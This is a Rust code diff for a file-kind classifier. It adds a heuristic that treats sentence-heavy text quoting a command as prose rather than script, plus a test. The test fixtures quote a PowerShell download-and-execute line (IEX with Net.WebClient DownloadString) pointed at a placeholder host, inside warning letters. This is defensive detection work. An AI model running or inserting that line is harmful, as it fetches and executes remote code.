@@ -152,13 +152,41 @@ fn code(bytes: &[u8]) -> Option<String> {
         .map(|byte| if byte.is_ascii() { char::from(byte.to_ascii_lowercase()) } else { '?' })
         .collect();
     let start = narrow.trim_start_matches('?').trim_start();
-    let is_code = super::is_text(bytes) && !start.starts_with('<') && !start.is_empty();
+    let is_code = super::is_text(bytes) && !start.starts_with('<') && !start.is_empty() && !is_prose(start);
     is_code.then(|| narrow.trim_start_matches('?').to_string())
+}
+
+/// Whether a text is written for people and only quotes a command: one line in three is a sentence.
+fn is_prose(text: &str) -> bool {
+    let is_comment =
+        |line: &str| ["#", "'", "//", "*", "::", "rem "].iter().any(|mark| line.starts_with(mark));
+    let is_sentence = |line: &str| {
+        let foreign = line.bytes().filter(|byte| *byte == b'?').count();
+        let has_code = line.contains(['=', '(', '{', ';', '$', '|', '%', '\\']);
+        let words = line.split_whitespace().count();
+        let ends = line.ends_with(['.', ',']) && words >= 3;
+        foreign * 3 > line.len() || (!has_code && (words >= 6 || ends))
+    };
+    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !is_comment(line)).take(200);
+    let (sentences, all) =
+        lines.fold((0, 0), |(sentences, all), line| (sentences + usize::from(is_sentence(line)), all + 1));
+    sentences * 3 >= all.max(1)
 }
 
 #[cfg(test)]
 mod tests {
     use crate::kind::Kind;
+
+    #[test]
+    fn letters_that_quote_a_command_are_no_scripts() {
+        for letter in [
+            "Dear all,\r\nattackers send lines like this one to run a program:\r\n\r\nIEX (New-Object Net.WebClient).DownloadString('https://a.example')\r\n\r\nPlease never paste them anywhere.\r\n",
+            "各位\r\n次のような命令にご注意ください。\r\nIEX (New-Object Net.WebClient).DownloadString('https://a.example')\r\n実行しないでください。\r\n",
+            "var is short for variable in this language; see below.\r\nWe use WScript.Echo(x) in the course, and eval(y) is not allowed there at all.\r\nPlease read the pages before the lesson on Monday.\r\n",
+        ] {
+            assert_eq!(Kind::of("a.txt", letter.as_bytes()).id, "text", "{letter}");
+        }
+    }
 
     #[test]
     fn scripts_without_a_name_are_known() {
